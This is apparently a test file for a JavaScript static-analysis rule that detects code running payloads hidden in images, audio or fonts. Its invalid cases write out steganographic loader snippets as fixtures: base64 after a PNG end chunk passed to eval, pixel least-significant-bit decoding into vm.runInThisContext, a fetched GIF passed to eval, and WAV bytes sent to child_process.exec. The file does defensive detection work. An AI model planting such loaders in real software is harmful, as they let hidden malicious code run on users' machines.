import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import rule from '../../rules/steganography-exec.js';
import { ruleTester } from '../rule-tester.js';
import { analyze } from '../../analyzer/engine.js';
import { resolvePolicy } from '../../policy/index.js';

ruleTester(rule, {
  valid: [
    // Images served, embedded or inspected, not run.
    "const fs = require('fs');\nconst logo = fs.readFileSync('logo.png');\nres.end(logo);",
    "const fs = require('fs');\nel.src = 'data:image/png;base64,' + fs.readFileSync('icon.png').toString('base64');",
    "const fs = require('fs');\ndocument.body.innerHTML = fs.readFileSync('icon.svg', 'utf8');",
    "const meta = require('music-metadata');\nmeta.parseFile('a.mp3').then((m) => console.log(m.common.title));",
    "const Jimp = require('jimp');\nJimp.read('photo.jpg').then((img) => img.resize(100, 100).write('thumb.jpg'));",
    "fetch('/avatar.png').then((r) => r.blob()).then((b) => { img.src = URL.createObjectURL(b); });",
    // Code files read and run are not media (other rules look at those).
    "const fs = require('fs');\neval(fs.readFileSync('config.js', 'utf8'));",
    // A variable that merely mentions an image.
    "const name = 'logo.png';\neval(code);",
  ],
  invalid: [
    {
      name: 'payload appended after the PNG end chunk',
      code: "const fs = require('fs');\nconst path = require('path');\nconst img = fs.readFileSync(path.join(__dirname, 'logo.png'));\nconst start = img.indexOf(Buffer.from('IEND')) + 8;\nconst payload = img.slice(start).toString('utf8');\neval(Buffer.from(payload, 'base64').toString());",
      errors: [{ messageId: 'mediaPayload', line: 6, column: 1, message: "'…/logo.png' (`fs.readFileSync`), decoded with base64," }],
    },
    {
      name: 'steggy',
      code: "const steggy = require('steggy');\nconst image = require('fs').readFileSync(__dirname + '/assets/icon.png');\nnew Function(steggy.reveal()(image, 'utf8'))();",
      errors: [{ messageId: 'mediaPayload', line: 3, column: 1, message: 'steggy.reveal' }],
    },
    {
      name: 'least significant bits of pixels',
      code: "const Jimp = require('jimp');\nJimp.read('banner.jpg').then((img) => {\n  let bits = '';\n  for (let i = 0; i < img.bitmap.data.length; i += 4) bits += img.bitmap.data[i] & 1;\n  let code = '';\n  for (let i = 0; i < bits.length; i += 8) code += String.fromCharCode(parseInt(bits.slice(i, i + 8), 2));\n  require('vm').runInThisContext(code);\n});",
      errors: [{ messageId: 'mediaPayload', line: 7, column: 3, message: 'bit strings + character codes' }],
    },
    {
      code: "fetch('https://cdn.example/pixel.gif').then((r) => r.text()).then(eval);",
      errors: [{ messageId: 'mediaPayload', line: 1, column: 67, message: "'https://cdn.example/pixel.gif' (`fetch`)" }],
    },
    {
      code: "const fs = require('fs');\nconst data = fs.readFileSync('./sound.wav');\nrequire('child_process').exec(data.slice(44).toString());",
      errors: [{ messageId: 'mediaPayload', line: 3, column: 1, message: 'child_process.exec' }],
    },
    {
      name: 'async read of a font, then a loader',
      code: "const { readFile } = require('fs/promises');\nasync function boot() {\n  const font = await readFile('./fonts/inter.woff2');\n  const src = font.subarray(font.length - 2048).toString();\n  return import('data:text/javascript,' + encodeURIComponent(src));\n}",
      errors: [{ messageId: 'mediaPayload', line: 5, column: 10, message: 'import()' }],
    },
    {
      name: 'a local helper decodes the image',
      code: "const fs = require('fs');\nfunction extract(buf) { return buf.toString('latin1').split('::')[1]; }\nsetTimeout(extract(fs.readFileSync('bg.jpg')), 0);",
      errors: [{ messageId: 'mediaPayload', line: 3, column: 1, message: 'setTimeout' }],
    },
  ],
});

describe('steganography-exec severity', () => {
  it('is an error in every profile', () => {
    const code = "const fs = require('fs');\neval(fs.readFileSync('logo.png', 'utf8'));";
    for (const profile of ['strict', 'audit', 'recommended'] as const) {
      const report = analyze(code, { policy: resolvePolicy({ profile }), rules: [rule] });
      assert.deepEqual(report.findings.filter((f) => f.ruleId === rule.id).map((f) => f.severity), ['error'], profile);
    }
  });
});
